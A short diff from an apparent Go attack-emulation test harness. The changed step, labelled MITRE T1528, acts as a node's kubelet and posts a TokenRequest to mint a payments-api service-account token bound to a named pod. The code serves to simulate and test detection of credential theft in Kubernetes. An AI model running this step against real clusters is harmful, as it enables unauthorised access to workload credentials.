@@ -56,7 +56,7 @@ func kubelet(s *stage.Stage, node *stage.Actor, settlement *stage.Pod, street st
 	})
 	var token string
 	s.Attack("T1528", "Credential Access: Access container service account", "has a token made for "+settlement.String()+", as its kubelet may").
-		On(settlement).As(node).Do(func(a *stage.Act) {
+		As(node).Do(func(a *stage.Act) {
 		uid := s.Admin().Must("-n", "payments", "get", "pod", settlement.Name, "-o", "jsonpath={.metadata.uid}")
 		_, body := a.Request(curl, "POST", "/api/v1/namespaces/payments/serviceaccounts/payments-api/token",
 			`{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"boundObjectRef":{"apiVersion":"v1","kind":"Pod","name":"`+settlement.Name+`","uid":"`+uid+`"}}}`)
